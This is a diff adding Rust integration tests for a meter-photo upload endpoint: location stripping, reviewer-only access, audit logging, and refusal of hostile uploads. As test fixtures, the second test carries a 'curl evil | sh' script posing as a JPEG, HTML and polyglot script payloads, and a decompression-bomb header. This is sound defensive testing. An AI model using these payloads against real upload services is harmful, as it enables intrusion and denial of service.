@@ -23,6 +23,8 @@ tests::on_both_backends!(
     an_approval_that_would_make_the_meter_go_back_is_refused,
     a_reading_sent_by_the_app_and_by_sms_is_billed_once,
     answers_carry_the_security_headers,
+    a_meter_photo_reaches_the_reviewer,
+    hostile_photos_are_refused,
 );
 
 /// The forms of a page, each from `<form` to `</form>`.
@@ -497,4 +499,141 @@ async fn answers_carry_the_security_headers(backend: Backend) {
     let (_, _, _, cache, _) = headers("/office/console.css").await;
     assert_ne!(cache.as_deref(), Some("no-store"));
     server.finish().await;
+}
+
+/// A real JPEG (from Chromium's encoder) with an EXIF segment carrying a location put in, as a
+/// phone's camera would.
+fn photo_with_location() -> Vec<u8> {
+    let jpeg = std::fs::read(concat!(env!("CARGO_MANIFEST_DIR"), "/fixtures/meter.jpg")).expect("the fixture");
+    let exif = b"Exif\0\0MM\0*\0\0\0\x08GPSLatitude 35.6892N GPSLongitude 51.3890E";
+    let mut out = jpeg[..2].to_vec();
+    out.extend_from_slice(&[0xFF, 0xE1]);
+    out.extend_from_slice(&u16::try_from(exif.len() + 2).expect("short").to_be_bytes());
+    out.extend_from_slice(exif);
+    out.extend_from_slice(&jpeg[2..]);
+    out
+}
+
+async fn put_photo(server: &TestServer, id: Uuid, bytes: &[u8], content_type: &str) -> (u16, serde_json::Value) {
+    let sent = server
+        .http
+        .put(format!("{}/api/v1/declarations/{id}/photo", server.base))
+        .header("content-type", content_type)
+        .body(bytes.to_vec())
+        .send()
+        .await;
+    // A body far over the limit may be cut off before its refusal is read: status 0.
+    let Ok(response) = sent else { return (0, serde_json::Value::Null) };
+    let status = response.status().as_u16();
+    (status, response.json().await.unwrap_or_default())
+}
+
+/// A photo follows its declaration: refused before the declaration has arrived, stored without
+/// its location once it has, a replay when sent again, refused when another one follows. The
+/// reviewer sees it beside the held reading, an office clerk cannot open it, and the audit log
+/// says who looked.
+async fn a_meter_photo_reaches_the_reviewer(backend: Backend) {
+    let server = TestServer::start(backend).await;
+    let photo = photo_with_location();
+    let id = Uuid::now_v7();
+    let (status, body) = put_photo(&server, id, &photo, "image/jpeg").await;
+    assert_eq!((status, body["error"]["code"].as_str()), (404, Some("unknown_declaration")), "it waits its turn");
+
+    let results = server.sync(vec![submission(id, 10_340, &server.hours_ago(24 * 10))]).await;
+    assert_eq!(results[0]["status"], "needs_review", "{}", results[0]);
+    let (status, body) = put_photo(&server, id, &photo, "image/jpeg").await;
+    assert_eq!(status, 201, "{body}");
+    assert_eq!(
+        (body["width"].as_u64(), body["height"].as_u64(), body["replayed"].as_bool()),
+        (Some(320), Some(200), Some(false))
+    );
+    let stored_bytes = body["stored_bytes"].as_u64().expect("a size");
+    assert!(stored_bytes < photo.len() as u64, "the location is taken out: {stored_bytes} of {}", photo.len());
+    let (status, again) = put_photo(&server, id, &photo, "image/jpeg").await;
+    assert_eq!((status, again["replayed"].as_bool()), (200, Some(true)), "a retry after a dropped connection");
+    let other = std::fs::read(concat!(env!("CARGO_MANIFEST_DIR"), "/fixtures/meter.jpg")).expect("fixture");
+    let (status, body) = put_photo(&server, id, &other, "image/jpeg").await;
+    assert_eq!((status, body["error"]["code"].as_str()), (409, Some("photo_exists")));
+    let (status, _) = put_photo(&server, id, &photo, "text/html").await;
+    assert_eq!(status, 415);
+
+    let seq = server.store.declarations_of(SUB).await.expect("read")[0].seq;
+    let reviewer = signed_in(&server, "rev", Role::Reviewer, "Billing").await;
+    let page = reviewer.get(&format!("/office/review/{seq}")).await;
+    assert!(page.body.contains(&format!("<img src=\"/office/photos/{seq}\"")), "{}", page.body);
+    let (status, content_type, bytes) = reviewer.get_bytes(&format!("/office/photos/{seq}")).await;
+    assert_eq!((status, content_type.as_str()), (200, "image/jpeg"));
+    assert_eq!(bytes.len() as u64, stored_bytes);
+    assert!(bytes.starts_with(&[0xFF, 0xD8]) && bytes.ends_with(&[0xFF, 0xD9]), "still a JPEG");
+    assert!(!String::from_utf8_lossy(&bytes).contains("GPS"), "no location reaches the console");
+    assert_eq!(reviewer.get_bytes("/office/photos/999999").await.0, 404);
+
+    let clerk = signed_in(&server, "clerk", Role::Office, "Pishkhan 12").await;
+    assert_eq!(clerk.get_bytes(&format!("/office/photos/{seq}")).await.0, 403, "reviewers and admins only");
+    let log = server.store.audit_log(None, 50).await.expect("audit");
+    let looked: Vec<_> =
+        log.iter().filter(|r| r.action == "photo_viewed").map(|r| (r.username.as_str(), r.detail.as_str())).collect();
+    assert_eq!(looked, [("rev", seq.to_string().as_str())], "{log:?}");
+    server.finish().await;
+}
+
+/// Uploads an attacker would try, all at once: a script called a JPEG, HTML, a JPEG with a script
+/// after its end (kept without it), a picture declaring 65,000 × 65,000 pixels in a few KB, 50 MB,
+/// an animated WebP, a broken JPEG. Each is refused (or cleaned), nothing is stored for the
+/// refused, and the server answers throughout.
+async fn hostile_photos_are_refused(backend: Backend) {
+    let server = Arc::new(TestServer::start(backend).await);
+    let jpeg = std::fs::read(concat!(env!("CARGO_MANIFEST_DIR"), "/fixtures/meter.jpg")).expect("fixture");
+    let ids: Vec<Uuid> = (0..7).map(|_| Uuid::now_v7()).collect();
+    let items = ids.iter().map(|id| submission(*id, 10_090, &server.hours_ago(2))).collect();
+    let results = server.sync(items).await;
+    assert!(results.iter().all(|r| r["status"] == "accepted" || r["status"] == "needs_review"), "{results:?}");
+
+    let mut bomb = jpeg.clone();
+    let frame = bomb.windows(2).position(|w| w == [0xFF, 0xC0]).expect("a baseline frame");
+    bomb[frame + 5..frame + 9].copy_from_slice(&[0xFD, 0xE8, 0xFD, 0xE8]);
+    let mut polyglot = jpeg.clone();
+    polyglot.extend_from_slice(b"<script>fetch('/office/')</script>");
+    let animated = b"RIFF\x16\0\0\0WEBPVP8X\x0a\0\0\0\x02\0\0\0\x63\0\0\x63\0\0".to_vec();
+    let cases: Vec<(Vec<u8>, &str, u16, Option<&str>)> = vec![
+        (b"#!/bin/sh\ncurl evil | sh\n".to_vec(), "image/jpeg", 400, Some("not_a_picture")),
+        (b"<html><script>alert(1)</script></html>".to_vec(), "image/jpeg", 400, Some("not_a_picture")),
+        (polyglot, "image/jpeg", 201, None),
+        (bomb, "image/jpeg", 413, Some("picture_too_large")),
+        (vec![0xFF; 50 * 1024 * 1024], "image/jpeg", 413, None),
+        (animated, "image/webp", 400, Some("not_a_picture")),
+        (jpeg[..jpeg.len() / 2].to_vec(), "image/jpeg", 400, Some("not_a_picture")),
+    ];
+    let mut tasks = Vec::new();
+    for (id, (bytes, content_type, status, code)) in ids.iter().copied().zip(cases) {
+        let server = server.clone();
+        let content_type = content_type.to_owned();
+        tasks.push(tokio::spawn(async move {
+            let (got, body) = put_photo(&server, id, &bytes, &content_type).await;
+            let cut_off = got == 0 && bytes.len() > 1 << 20;
+            assert!(got == status || cut_off, "{content_type} of {} bytes: {got} {body}", bytes.len());
+            if let Some(code) = code {
+                assert_eq!(body["error"]["code"].as_str(), Some(code), "{body}");
+            }
+        }));
+    }
+    for task in tasks {
+        task.await.expect("each refused as it should be");
+    }
+    for (n, id) in ids.iter().enumerate() {
+        let seq = server.store.declaration_by_id(*id).await.expect("read").expect("stored").seq;
+        let stored = server.store.photos().photo(seq).await.expect("read");
+        assert_eq!(stored.is_some(), n == 2, "only the cleaned polyglot is kept ({n})");
+        if let Some(photo) = stored {
+            assert!(!String::from_utf8_lossy(&photo.bytes).contains("script"), "without what followed the picture");
+        }
+    }
+    assert_eq!(
+        server.sync(vec![submission(Uuid::now_v7(), 10_095, &server.hours_ago(1))]).await[0]["status"],
+        "accepted"
+    );
+    match Arc::try_unwrap(server) {
+        Ok(server) => server.finish().await,
+        Err(_) => panic!("every task is done"),
+    }
 }
